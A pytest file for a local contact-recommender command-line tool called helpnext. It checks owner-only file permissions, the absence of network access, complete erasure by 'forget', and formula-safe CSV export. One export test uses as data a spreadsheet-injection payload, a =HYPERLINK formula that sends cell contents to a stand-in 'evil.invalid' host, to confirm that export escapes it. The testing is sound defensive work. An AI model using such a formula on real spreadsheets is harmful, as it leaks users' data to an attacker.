"""Privacy: owner-only files, no network, ``forget`` leaves nothing, ``export`` is whole and
safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import textwrap
from datetime import datetime
from pathlib import Path

import duckdb
import pytest

REPO = Path(__file__).resolve().parents[1]
SAMPLE = REPO / "data" / "sample"
CSV_DIR = REPO / "tests" / "data" / "csv"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def text_columns(con) -> list[tuple[str, str]]:
    return con.execute(
        "SELECT table_name, column_name FROM information_schema.columns "
        "WHERE table_schema = 'main' AND data_type IN ('VARCHAR', 'TEXT') "
        "ORDER BY table_name, column_name"
    ).fetchall()


def cells_mentioning(store_file: Path, needles: list[str]) -> list[tuple[str, str, str]]:
    """(table, column, value) of every text cell of every table containing a needle."""
    con = duckdb.connect(str(store_file), read_only=True)
    try:
        hits = []
        for table, column in text_columns(con):
            for needle in needles:
                rows = con.execute(
                    f'SELECT "{column}" FROM "{table}" WHERE contains(lower("{column}"), ?)',
                    [needle.lower()],
                ).fetchall()
                hits += [(table, column, r[0]) for r in rows]
        return hits
    finally:
        con.close()


# -- owner-only files ----------------------------------------------------------------------------


def test_store_models_and_export_are_owner_only(cli, helpnext_home, tmp_path):
    """The home and models folders are 0700; the store, model files and every exported
    file are 0600."""
    from sklearn.dummy import DummyClassifier

    from recommender.registry import save_model

    assert cli("import", "csv", "--contacts", CSV_DIR / "contacts.csv").exit_code == 0
    assert mode(helpnext_home) == 0o700
    assert mode(helpnext_home / "helpnext.duckdb") == 0o600
    save_model(helpnext_home, DummyClassifier(), training_data_sha256="0" * 64)
    models = helpnext_home / "models"
    assert mode(models) == 0o700
    assert [mode(p) for p in models.iterdir()] == [0o600] * len(list(models.iterdir()))
    out = tmp_path / "export"
    assert cli("export", "--out", out).exit_code == 0
    assert mode(out) == 0o700
    assert [mode(p) for p in out.iterdir()] == [0o600] * len(list(out.iterdir()))


def test_the_write_ahead_log_is_owner_only(helpnext_home):
    """While a write is not yet checkpointed it lives in helpnext.duckdb.wal: that file
    holds the same private data and must be 0600 too."""
    from recommender.store.db import open_store

    with open_store():
        pass  # created, migrated, closed: checkpointed, no WAL left
    assert not (helpnext_home / "helpnext.duckdb.wal").exists()
    with open_store() as store:
        with store.transaction():
            store.con.execute("CREATE TABLE t (x TEXT)")
            store.con.execute("INSERT INTO t VALUES ('private')")
        wal = helpnext_home / "helpnext.duckdb.wal"
        assert wal.exists()
        assert mode(wal) == 0o600, f"the WAL is {oct(mode(wal))}"


def test_the_write_ahead_log_is_owner_only_from_its_first_byte(helpnext_home, monkeypatch):
    """DuckDB creates the WAL at a write's commit, under the process umask: with a usual
    umask of 022 it was 0644 until helpnext changed it afterwards. Without that later
    change (patched out here), the WAL is still born 0600."""
    import os

    from recommender.store import db as store_module

    with store_module.open_store():
        pass
    monkeypatch.setattr(store_module, "_restrict", lambda path: None)
    old = os.umask(0o022)
    try:
        with store_module.open_store() as store:
            with store.transaction():
                store.con.execute("CREATE TABLE t (x TEXT)")
                store.con.execute("INSERT INTO t VALUES ('private')")
            wal = helpnext_home / "helpnext.duckdb.wal"
            assert wal.exists() and mode(wal) == 0o600, f"the WAL is {oct(mode(wal))}"
    finally:
        os.umask(old)


def test_a_home_open_to_others_is_made_owner_only_and_said(cli, helpnext_home):
    helpnext_home.mkdir(mode=0o755)
    helpnext_home.chmod(0o755)
    (helpnext_home / "models").mkdir(mode=0o755)
    (helpnext_home / "models").chmod(0o755)
    result = cli("import", "csv", "--contacts", CSV_DIR / "contacts.csv")
    assert result.exit_code == 0, result.stderr
    assert mode(helpnext_home) == 0o700
    assert result.stderr.strip() == (
        f"helpnext: {helpnext_home} was open to others (mode 0755); made it 0700 (you only)"
    )
    again = cli("stats")
    assert again.exit_code == 0 and again.stderr == ""
    from recommender.registry import private_dir

    private_dir(helpnext_home / "models")
    assert mode(helpnext_home / "models") == 0o700


# -- no network, checked from outside the process --------------------------------------------------

GUARD = textwrap.dedent(
    """
    import os, socket
    _log = os.environ["HELPNEXT_NET_LOG"]
    _real = socket.socket.connect

    def _refuse(self, address, *args, **kwargs):
        if self.family == getattr(socket, "AF_UNIX", None):
            return _real(self, address, *args, **kwargs)
        with open(_log, "a") as handle:
            handle.write(repr(address) + "\\n")
        raise OSError("network disabled by the helpnext test guard")

    socket.socket.connect = _refuse
    socket.socket.connect_ex = _refuse
    """
)


def _commands(tmp: Path) -> list[list[str]]:
    return [
        ["import", "linkedin", str(SAMPLE / "linkedin-export-2024-06.zip")],
        ["today", "--as-of", "2024-06-20", "--json"],
        ["export", "--out", str(tmp / "export")],
        ["forget", "1", "--yes"],
    ]


def test_no_command_opens_a_network_connection_in_a_subprocess(tmp_path):
    """A sitecustomize that records and refuses every non-local connection is loaded into
    real ``helpnext`` processes; the commands still work and nothing was attempted."""
    guard_dir = tmp_path / "guard"
    guard_dir.mkdir()
    (guard_dir / "sitecustomize.py").write_text(GUARD)
    log = tmp_path / "net.log"
    env = {
        **os.environ,
        "HELPNEXT_HOME": str(tmp_path / "home"),
        "HELPNEXT_NET_LOG": str(log),
        "PYTHONPATH": os.pathsep.join([str(guard_dir), os.environ.get("PYTHONPATH", "")]),
    }
    probe = subprocess.run(
        [sys.executable, "-c", "import socket; socket.create_connection(('192.0.2.1', 9))"],
        env=env,
        capture_output=True,
        text=True,
    )
    assert probe.returncode != 0 and log.exists(), "the guard must be active"
    log.unlink()
    for args in _commands(tmp_path):
        proc = subprocess.run(
            [sys.executable, "-m", "recommender", *args],
            env=env,
            capture_output=True,
            text=True,
            cwd=REPO,
            timeout=300,
        )
        assert proc.returncode == 0, (args, proc.stderr)
    assert not log.exists(), log.read_text()


@pytest.mark.skipif(shutil.which("unshare") is None, reason="unshare not available")
def test_commands_work_with_no_network_at_all(tmp_path):
    """In a network namespace with no interfaces (``unshare -n``), helpnext still works."""
    check = subprocess.run(["unshare", "-n", "true"], capture_output=True)
    if check.returncode != 0:
        pytest.skip("unshare -n is not permitted here")
    env = {**os.environ, "HELPNEXT_HOME": str(tmp_path / "home")}
    for args in (["import", "csv", "--contacts", str(CSV_DIR / "contacts.csv")], ["stats"]):
        proc = subprocess.run(
            ["unshare", "-n", sys.executable, "-m", "recommender", *args],
            env=env,
            capture_output=True,
            text=True,
            cwd=REPO,
            timeout=300,
        )
        assert proc.returncode == 0, (args, proc.stderr)


# -- forget ----------------------------------------------------------------------------------------


@pytest.fixture
def full_home(cli, helpnext_home):
    """A home with every kind of record about one person, Leila Watanabe: LinkedIn
    interactions from two exports (and so a role change), an e-mail identity, a tag, a note,
    today's suggestions, a merge with a duplicate contact from a CSV, and a mention of her
    in a note about someone else."""
    assert cli("import", "linkedin", SAMPLE / "linkedin-export-2023-06.zip").exit_code == 0
    assert cli("import", "linkedin", SAMPLE / "linkedin-export-2024-06.zip").exit_code == 0
    return helpnext_home


def _ids(store_file: Path, sql: str, params=()) -> list:
    con = duckdb.connect(str(store_file), read_only=True)
    try:
        return [r[0] for r in con.execute(sql, list(params)).fetchall()]
    finally:
        con.close()


def test_forget_removes_every_trace(cli, full_home, tmp_path):
    store_file = full_home / "helpnext.duckdb"
    # pick a person with many kinds of records: a suggestion today, interactions, an e-mail
    assert cli("today", "--as-of", "2024-06-20").exit_code == 0
    con = duckdb.connect(str(store_file), read_only=True)
    target, name = con.execute(
        """SELECT c.contact_id, c.display_name FROM contacts c
           JOIN suggestions s USING (contact_id)
           WHERE c.display_name LIKE '% %'
             AND (SELECT count(*) FROM contacts o WHERE o.display_name = c.display_name) = 1
             AND (SELECT count(*) FROM interactions i WHERE i.contact_id = c.contact_id) > 0
           ORDER BY c.contact_id LIMIT 1"""
    ).fetchone()
    email = name.lower().replace(" ", ".") + "@example.org"
    other, other_name = con.execute(
        "SELECT contact_id, display_name FROM contacts WHERE contact_id <> ? "
        "AND display_name LIKE '% %' ORDER BY contact_id LIMIT 1",
        [target],
    ).fetchone()
    their_interactions = con.execute(
        "SELECT count(*) FROM interactions WHERE contact_id = ?", [target]
    ).fetchone()[0]
    total = con.execute("SELECT count(*) FROM interactions").fetchone()[0]
    con.close()
    # a duplicate of them from another source, merged in by hand
    dup = tmp_path / "dup.csv"
    dup.write_text(f"contact_id,name,email,tags\nx1,{name} (old),{email},friend\n")
    assert cli("import", "csv", "--contacts", dup).exit_code == 0
    (dup_id,) = _ids(store_file, "SELECT contact_id FROM contacts WHERE email = ?", [email])
    assert cli("contacts", "merge", str(target), str(dup_id)).exit_code == 0
    assert cli("tag", str(target), "mentor").exit_code == 0
    assert cli("note", str(target), "wants intros to data people", "--kind", "need").exit_code == 0
    assert cli("note", str(other), f"met through {name} ({email})").exit_code == 0
    raw_before = store_file.read_bytes()
    assert email.encode() in raw_before  # the test can see it in the raw file at all

    result = cli("forget", name, "--yes", "--json")
    assert result.exit_code == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["contact_id"] == target
    assert sorted(report["contact_ids"]) == sorted([target, dup_id])
    assert report["rows"]["interactions"] == their_interactions
    assert report["rows"]["contacts"] == 2
    assert {"identities", "tags", "notes", "suggestions", "merges"} <= set(report["rows"])
    assert report["redacted"] == {"notes.text": 1}

    assert cells_mentioning(store_file, [name, email]) == []
    for table, column in (("contacts", "contact_id"), ("interactions", "contact_id")):
        assert (
            _ids(
                store_file,
                f"SELECT {column} FROM {table} WHERE list_contains(?, {column})",
                [[target, dup_id]],
            )
            == []
        )
    assert _ids(store_file, "SELECT count(*) FROM interactions") == [total - their_interactions]
    assert _ids(store_file, "SELECT display_name FROM contacts WHERE contact_id = ?", [other]) == [
        other_name
    ]
    assert _ids(store_file, "SELECT text FROM notes WHERE contact_id = ?", [other]) == [
        "met through [forgotten] ([forgotten])"
    ]
    # the deleted rows are not lingering in the file's free blocks either
    raw = store_file.read_bytes()
    assert email.encode() not in raw and name.encode() not in raw
    assert not (full_home / "helpnext.duckdb.wal").exists()
    assert mode(store_file) == 0o600
    # and the store works as before
    assert cli("stats", "--json").exit_code == 0
    assert cli("today", "--as-of", "2024-06-21").exit_code == 0
    again = cli("forget", name, "--yes")
    assert again.exit_code == 1 and "no contact matches" in again.stderr


def test_forget_covers_tables_added_later(cli, helpnext_home):
    """Tables the forget code has never heard of are found by their column names, and rows
    pointing at deleted rows (feedback of a deleted suggestion) go too."""
    from recommender.store.db import open_store

    assert cli("import", "csv", "--contacts", CSV_DIR / "contacts.csv").exit_code == 0
    with open_store() as store:
        dana = store.scalar("SELECT contact_id FROM contacts WHERE display_name = 'Dana Smith'")
        ola = store.scalar("SELECT contact_id FROM contacts WHERE display_name = 'Ola Nordmann'")
        con = store.con
        con.execute(
            """CREATE TABLE item_shares (share_id BIGINT PRIMARY KEY, contact_id BIGINT,
                   item_id BIGINT, comment TEXT);
               CREATE TABLE intro_log (intro_id BIGINT PRIMARY KEY, from_contact_id BIGINT,
                   partner_contact_id BIGINT, words TEXT);
               CREATE TABLE feedback (feedback_id BIGINT PRIMARY KEY, suggestion_id BIGINT,
                   outcome TEXT);"""
        )
        now = datetime(2024, 6, 20)
        for sid, cid in ((1, dana), (2, ola)):
            con.execute(
                "INSERT INTO suggestions (suggestion_id, as_of, owner_id, contact_id, action, "
                "score, reason, model_version, propensity, created_at) "
                "VALUES (?, ?, 1, ?, 'check_in', 1.0, 'r', 'v', 1.0, ?)",
                [sid, now, cid, now],
            )
            con.execute("INSERT INTO feedback VALUES (?, ?, 'done')", [sid, sid])
        con.execute("INSERT INTO item_shares VALUES (1, ?, 1, 'x'), (2, ?, 1, 'y')", [dana, ola])
        con.execute(
            "INSERT INTO intro_log VALUES (1, ?, ?, 'a'), (2, ?, ?, 'b'), (3, ?, ?, 'c')",
            [ola, dana, dana, ola, ola, ola],
        )
    result = cli("forget", "dana@acme.com", "--yes", "--json")
    assert result.exit_code == 0, result.stderr
    rows = json.loads(result.stdout)["rows"]
    assert rows["item_shares"] == 1 and rows["intro_log"] == 2 and rows["suggestions"] == 1
    with open_store(read_only=True) as store:
        assert store.con.execute("SELECT share_id FROM item_shares").fetchall() == [(2,)]
        assert store.con.execute("SELECT intro_id FROM intro_log").fetchall() == [(3,)]
        assert store.con.execute("SELECT suggestion_id FROM feedback").fetchall() == [(2,)]


def test_forget_asks_first(cli, helpnext_home):
    assert cli("import", "csv", "--contacts", CSV_DIR / "contacts.csv").exit_code == 0
    no = cli("forget", "Dana Smith", input="n\n")
    assert no.exit_code == 1
    assert "Forget Dana Smith (contact 1): contacts 1, identities" in no.stdout
    assert "Nothing was forgotten." in no.stdout
    assert cli("contacts", "--json").stdout.count("Dana Smith") == 1
    eof = cli("forget", "Dana Smith", input="")
    assert eof.exit_code == 1 and "Nothing was forgotten." in eof.stdout
    yes = cli("forget", "Dana Smith", input="y\n")
    assert yes.exit_code == 0, yes.stderr
    assert "Forgot Dana Smith" in yes.stdout
    assert "Dana Smith" not in cli("contacts", "--json").stdout
    missing = cli("forget", "Nobody At All", "--yes")
    assert missing.exit_code == 1
    assert missing.stderr.startswith("helpnext: error: no contact matches 'Nobody At All'")


def test_forget_says_which_models_to_retrain(cli, helpnext_home):
    """Models trained after the person entered the store on data reaching past their first
    interaction are listed; older ones are not; a card that cannot be read is listed with a
    note that its training time cannot be known."""
    from sklearn.dummy import DummyClassifier

    from recommender.registry import save_model

    csv_args = ["--contacts", CSV_DIR / "contacts.csv", "--interactions"]
    assert cli("import", "csv", *csv_args, CSV_DIR / "interactions.csv").exit_code == 0
    model = DummyClassifier()
    old = save_model(helpnext_home, model, training_data_sha256="0" * 64, now=datetime(2020, 1, 1))
    cutoff_before = save_model(
        helpnext_home,
        model,
        training_data_sha256="1" * 64,
        details={"as_of": "2023-12-01T00:00:00"},  # Dana's first interaction: 2024-01-02
    )
    trained_on = save_model(
        helpnext_home,
        model,
        training_data_sha256="2" * 64,
        details={"as_of": "2024-06-01T00:00:00"},
    )
    (helpnext_home / "models" / "broken.json").write_text("{not json")
    result = cli("forget", "Dana Smith", "--yes", "--json")
    assert result.exit_code == 0, result.stderr
    report = json.loads(result.stdout)
    listed = {m["card"]: m["why"] for m in report["models"]}
    assert listed == {
        f"{trained_on['model_id']}.json": "trained on data that includes them",
        "broken.json": "unreadable card",
    }
    assert old["model_id"] not in json.dumps(report["models"])
    assert cutoff_before["model_id"] not in json.dumps(report["models"])
    assert "cannot be known" in report["models_note"]
    text = cli("forget", "Ola Nordmann", "--yes")
    assert "Retrain these models" in text.stdout


# -- export ----------------------------------------------------------------------------------------


def test_export_writes_every_table_as_safe_csv_and_json(cli, helpnext_home, tmp_path):
    contacts = tmp_path / "contacts.csv"
    contacts.write_text(
        "contact_id,name,company,notes\n"
        'c1,"=HYPERLINK(""http://evil.invalid/?""&A1,""click"")",+Acme,@mention\n'
        "c2,Plain Name,-minus,\n"
    )
    assert cli("import", "csv", "--contacts", contacts).exit_code == 0
    assert cli("import", "linkedin", SAMPLE / "linkedin-export-2024-06.zip").exit_code == 0
    out = tmp_path / "out"
    result = cli("export", "--out", out, "--json")
    assert result.exit_code == 0, result.stderr
    summary = json.loads(result.stdout)
    con = duckdb.connect(str(helpnext_home / "helpnext.duckdb"), read_only=True)
    tables = [
        r[0]
        for r in con.execute(
            "SELECT table_name FROM information_schema.tables WHERE table_schema = 'main'"
        ).fetchall()
    ]
    expected = {t: con.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}
    con.close()
    assert summary["rows"] == expected
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f"{t}.csv" for t in tables] + ["helpnext-export.json"]
    )
    everything = json.loads((out / "helpnext-export.json").read_text())
    assert {t: len(rows) for t, rows in everything["tables"].items()} == expected
    # the JSON keeps values exactly; the CSV neutralises what a spreadsheet would run
    names = {r["display_name"] for r in everything["tables"]["contacts"]}
    assert '=HYPERLINK("http://evil.invalid/?"&A1,"click")' in names
    rows = list(csv.DictReader(io.StringIO((out / "contacts.csv").read_text())))
    assert len(rows) == expected["contacts"]
    evil = next(r for r in rows if "HYPERLINK" in r["display_name"])
    assert evil["display_name"] == '\'=HYPERLINK("http://evil.invalid/?"&A1,"click")'
    assert evil["company"] == "'+Acme" and evil["notes"] == "'@mention"
    plain = next(r for r in rows if r["display_name"] == "Plain Name")
    assert plain["company"] == "'-minus"
    for path in out.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in row), (path, row)
    # nothing half-written is left beside it, and a second export replaces the first
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    assert cli("export", "--out", out).exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f"{t}.csv" for t in tables] + ["helpnext-export.json"]
    )


def test_export_of_an_empty_home_and_bad_targets(cli, helpnext_home, tmp_path):
    out = tmp_path / "empty-export"
    result = cli("export", "--out", out, "--json")
    assert result.exit_code == 0, result.stderr
    from recommender.store.schema import MIGRATIONS

    rows = json.loads(result.stdout)["rows"]
    assert sum(rows.values()) == rows["schema_version"] == len(MIGRATIONS)
    assert not (helpnext_home / "helpnext.duckdb").exists()  # reading created nothing
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    bad = cli("export", "--out", a_file)
    assert bad.exit_code == 2
    assert bad.stderr == f"helpnext: error: --out {a_file} is a file; name a folder\n"
